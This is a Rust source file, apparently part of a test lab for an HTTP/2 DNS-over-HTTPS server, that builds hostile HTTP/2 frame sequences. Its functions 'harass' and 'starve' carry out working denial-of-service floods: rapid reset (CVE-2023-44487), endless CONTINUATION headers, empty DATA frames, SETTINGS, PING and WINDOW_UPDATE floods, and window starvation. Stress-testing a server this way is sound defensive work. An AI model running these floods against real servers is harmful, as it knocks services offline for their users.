//! Frames of HTTP/2 (RFC 9113 section 4.1) as no honest client sends them.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};

use data_encoding::BASE64URL_NOPAD;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::tls;
use crate::lab::clients::question;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE` (RFC 9113 section 6.5.2).
const INITIAL_WINDOW: u8 = 4;

/// Frames written at once.
const ROW: u32 = 100;

/// What a client may do to an HTTP/2 server.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Mischief {
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// A head that goes on for ever (RUSTSEC-2024-0332).
    EndlessHead,
    /// A body of nothing, for ever (RUSTSEC-2026-0258).
    EmptyData,
    /// Heads of nothing, each on a stream of its own.
    EmptyHeads,
    /// Settings, each of which has to be acknowledged.
    Settings,
    /// Pings, each of which has to be answered.
    Pings,
    /// Room for answers, octet by octet.
    Windows,
}

impl Mischief {
    pub(crate) const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::EndlessHead,
        Self::EmptyData,
        Self::EmptyHeads,
        Self::Settings,
        Self::Pings,
        Self::Windows,
    ];

    /// What opens it, on the first stream.
    fn begin(self) -> Vec<u8> {
        match self {
            Self::EndlessHead => frame(HEADERS, END_STREAM, 1, &request("POST", "/dns-query")),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &request("POST", "/dns-query")),
            Self::RapidReset | Self::EmptyHeads | Self::Settings | Self::Pings | Self::Windows => {
                Vec::new()
            }
        }
    }

    /// The next of its frames, for the `number`th time.
    fn next(self, number: u32) -> Vec<u8> {
        let stream = 2 * number + 1;
        match self {
            Self::RapidReset => {
                let head = request("GET", &target("pi.home.lan"));
                let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head), reset].concat()
            }
            // A literal field of a new name and a value of one octet each (RFC 7541 section 6.2.2).
            Self::EndlessHead => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
            Self::EmptyData => frame(DATA, 0, 1, b""),
            Self::EmptyHeads => frame(HEADERS, END_HEADERS | END_STREAM, stream, b""),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::Pings => frame(PING, 0, 0, &u64::from(number).to_be_bytes()),
            Self::Windows => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }
}

/// Does it until the server closes the connection, reading what comes or not.
/// Returns the number of frames that the server took.
pub(crate) async fn harass(
    from: Ipv4Addr,
    to: SocketAddr,
    mischief: Mischief,
    reading: bool,
) -> io::Result<u32> {
    let (mut read, mut write) = open(from, to, &[]).await?;
    if reading {
        tokio::spawn(async move { while read.read(&mut [0; 4096]).await.is_ok_and(|n| n > 0) {} });
    }
    write.write_all(&mischief.begin()).await?;
    let mut sent = 0;
    loop {
        let row: Vec<u8> = (sent..sent + ROW).flat_map(|number| mischief.next(number)).collect();
        if write.write_all(&row).await.is_err() || write.flush().await.is_err() {
            return Ok(sent);
        }
        sent += ROW;
    }
}

/// Asks for `name` on a hundred streams, and takes not one octet of an answer. Ends when the
/// server closes the connection.
pub(crate) async fn starve(from: Ipv4Addr, to: SocketAddr, name: &str) -> io::Result<()> {
    let (mut read, mut write) = open(from, to, &[0, INITIAL_WINDOW, 0, 0, 0, 0]).await?;
    let head = request("GET", &target(name));
    let asked: Vec<u8> = (0..ROW)
        .flat_map(|number| frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &head))
        .collect();
    write.write_all(&asked).await?;
    write.flush().await?;
    while read.read(&mut [0; 4096]).await? > 0 {}
    Ok(())
}

async fn open(
    from: Ipv4Addr,
    to: SocketAddr,
    settings: &[u8],
) -> io::Result<(ReadHalf<TlsStream<TcpStream>>, WriteHalf<TlsStream<TcpStream>>)> {
    let (read, mut write) = split(tls(from, to, b"h2").await?);
    write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    write.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    write.flush().await?;
    Ok((read, write))
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The head of a request without Huffman code and dynamic table: `:method` and `:scheme` by
/// index, `:path` and `content-type` literally (RFC 7541 section 6.2.2 and appendix A).
fn request(method: &str, target: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    if method == "GET" {
        return [vec![0x82, 0x87, 0x04], text(target)].concat();
    }
    let media_type = text("application/dns-message");
    [vec![0x83, 0x87, 0x04], text(target), vec![0x0f, 0x10], media_type].concat()
}

/// A GET for the addresses of `name` (RFC 8484 section 4.1.1).
fn target(name: &str) -> String {
    format!("/dns-query?dns={}", BASE64URL_NOPAD.encode(&question(name).1))
}
